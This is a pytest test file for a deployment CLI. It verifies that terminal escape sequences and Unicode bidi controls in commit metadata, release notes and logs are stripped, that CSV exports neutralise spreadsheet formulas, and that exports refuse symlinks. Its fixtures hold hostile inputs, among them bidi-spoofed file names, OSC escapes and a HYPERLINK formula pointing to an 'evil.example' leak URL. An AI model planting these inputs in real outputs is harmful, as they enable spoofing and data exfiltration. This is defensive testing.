"""Remote text (commit subjects and authors, release notes, plan names, log lines) carrying
terminal escapes and Unicode bidi controls reaches no terminal path raw: every CLI command that
shows it, in table, JSON and YAML output, run through the real CLI."""

from __future__ import annotations

import csv
import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.support.cli import Ran, shipdeck
from tests.support.deployments import record_deployment
from tests.support.workspace import BASIC_TOML, WorkspaceFixture

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# ESC and CSI starts, BEL, C1 CSI/OSC: what would let text drive the terminal.
CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d")
SUBJECT = "fix login\x1b]0;pwned\x07 \u202etxt.exe\u202c done \x1b[31mred\x1b[0m"
AUTHOR = "mal\u202elory\u2066"
NOTES = "ships \u2067reordered\u2069 text\x1b[2J and \u200ea mark"
LOG_LINE = "2026-11-24T10:00:00Z user \u202enimda\u202c logged in\x1b]8;;http://evil\x1b\\"

TOML = (
    BASIC_TOML
    + """
[apps.web.targets.staging]
adapter = "local"
port = 1

[apps.web.targets.staging.logs]
adapter = "file"
path = "web.log"
"""
)


def _hostile_commit(repo: Path) -> None:
    (repo / "hostile.txt").write_text("x\n")
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": AUTHOR, "GIT_AUTHOR_EMAIL": "m@example.com",
        "GIT_COMMITTER_NAME": AUTHOR, "GIT_COMMITTER_EMAIL": "m@example.com",
        "GIT_AUTHOR_DATE": "2026-11-01T10:00:00+0000", "GIT_COMMITTER_DATE": "2026-11-01T10:00:00+0000",
        "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
    }  # fmt: skip
    for argv in (["add", "-A"], ["commit", "-q", "-m", SUBJECT]):
        subprocess.run(["git", *argv], cwd=repo, env=env, check=True, capture_output=True)


def _clean(ran: Ran) -> None:
    for stream in (ran.out, ran.err):
        bad = [c for c in (*BIDI, *CONTROLS) if c in stream]
        assert not bad, (bad, stream)


@pytest.mark.parametrize("mode", ["table", "json", "yaml"])
def test_hostile_remote_text_reaches_no_terminal_path(ws: WorkspaceFixture, mode: str) -> None:
    ws.write_config(TOML)
    _hostile_commit(ws.root / "repos" / "web")
    (ws.root / "web.log").write_text(LOG_LINE + "\n", encoding="utf-8")
    env = ws.env("alice")
    first = ws.shas["web"][0]
    assert shipdeck("release", "create", "web", "1.0.0", "--commit", first, env=env).code == 0
    created = shipdeck("release", "create", "web", "1.0.1", "--notes", NOTES, env=env)
    assert created.code == 0, created.err
    record_deployment(ws.as_user("alice"), "web", "staging", "1.0.0")
    plan = shipdeck(
        "-o", "json", "plan", "create", "--env", "staging", "--name", "plan \u202eX", "web@1.0.1",
        env=env,
    )  # fmt: skip
    assert plan.code == 0, plan.err
    plan_id = plan.json()["plan"]["id"]

    commands = [
        ("release", "diff", "web", "1.0.0", "1.0.1"),
        ("status", "--commits"),
        ("release", "show", "web", "1.0.1"),
        ("release", "list", "web"),
        ("plan", "show", plan_id),
        ("plan", "list"),
        ("audit", "list"),
        ("task", "logs", "web", "--env", "staging"),
    ]
    shown = []
    for argv in commands:
        ran = shipdeck("-o", mode, *argv, env=env)
        assert ran.code == 0, (argv, ran.err)
        _clean(ran)
        shown.append(ran.out)
    if mode == "table":  # the text is still there, only without its controls
        assert "mallory: fix login txt.exe done red" in shown[0]
        assert "mallory: fix login txt.exe" in shown[1]
        assert "notes    ships reordered text and a mark" in shown[2]
        assert shown[7] == "2026-11-24T10:00:00Z user nimda logged in\n"
    if mode == "json":
        diff = json.loads(shown[0])["diff"]["commits"]
        # The data is kept exactly: escaped on the wire, not dropped.
        assert (AUTHOR, SUBJECT) in [(c["author"], c["subject"]) for c in diff]
    exported = shipdeck("audit", "export", "--format", "jsonl", env=env)
    assert exported.code == 0
    _clean(exported)
    assert NOTES in [json.loads(line)["payload"].get("notes") for line in exported.out.splitlines()]
    as_csv = shipdeck("audit", "export", "--format", "csv", env=env)
    assert as_csv.code == 0
    _clean(as_csv)
    assert "ships reordered text" in as_csv.out


def test_csv_export_neutralises_spreadsheet_formulas(ws: WorkspaceFixture) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak","open")'
    env = {**ws.env("alice"), "SSH_CLIENT": f"{formula} 5022 22"}
    assert shipdeck("release", "create", "web", "1.0.0", env=env).code == 0
    out = ws.root / "audit.csv"
    assert shipdeck("audit", "export", "--format", "csv", "--out", str(out), env=env).code == 0
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["ssh_client"] for r in rows] == ["'" + formula]  # shown as text, never evaluated
    assert rows[0]["actor"] == "alice" and rows[0]["kind"] == "release.created"


def test_an_export_file_is_private_and_never_written_through_a_link(
    ws: WorkspaceFixture, tmp_path: Path
) -> None:
    env = ws.env("alice")
    assert shipdeck("release", "create", "web", "1.0.0", env=env).code == 0
    out = ws.root / "audit.jsonl"
    assert shipdeck("audit", "export", "--out", str(out), env=env).code == 0
    assert out.stat().st_mode & 0o077 == 0 and len(out.read_text().splitlines()) == 1
    victim = tmp_path / "victim"
    victim.write_text("keep me\n")
    (ws.root / "planted.jsonl").symlink_to(victim)
    refused = shipdeck("audit", "export", "--out", str(ws.root / "planted.jsonl"), env=env)
    assert refused.code == 4
    assert f"{ws.root / 'planted.jsonl'}: refused: it is a symbolic link" in refused.err
    assert victim.read_text() == "keep me\n"
